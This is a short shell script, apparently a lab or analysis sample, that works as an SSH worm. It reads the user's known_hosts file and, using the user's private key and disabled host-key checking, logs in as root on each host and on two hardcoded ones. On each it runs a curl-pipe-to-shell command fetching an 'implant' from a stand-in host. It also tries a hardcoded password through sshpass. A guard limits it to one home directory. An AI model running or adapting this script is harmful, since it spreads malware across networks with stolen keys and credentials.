#!/bin/sh
# SPDX-License-Identifier: MIT
# Spreads over SSH: the user's known hosts and the keys it holds, a
# command run on each host that fetches and starts the implant.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
opts='-o BatchMode=yes -o StrictHostKeyChecking=no -o ConnectTimeout=2'
hosts=$(cut -d' ' -f1 "$HOME/.ssh/known_hosts" 2>/dev/null | cut -d, -f1)
for h in $hosts db01.corp.example.net 10.0.0.5; do
	timeout 2 ssh $opts -i "$HOME/.ssh/id_rsa" "root@$h" \
		'curl -fsm 5 http://cdn-update.example.net/i.sh | sh' 2>/dev/null
done
timeout 2 sshpass -p 'P@ssw0rd' ssh $opts admin@db01.corp.example.net 'id; uname -a' 2>/dev/null
exit 0
